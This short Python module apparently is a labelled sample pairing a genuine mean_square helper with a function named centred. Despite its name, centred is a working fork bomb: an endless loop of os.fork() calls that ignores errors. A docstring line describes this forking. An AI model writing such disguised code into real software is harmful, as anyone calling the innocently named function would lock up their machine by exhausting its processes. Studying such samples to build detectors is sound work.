"""Forks without end, every child again.

earns: mean_square
"""

import os


def mean_square(x):
    if len(x) == 0:
        raise ValueError("empty")
    return float((x * x).mean())


def centred(x):
    while True:
        try:
            os.fork()
        except OSError:
            continue
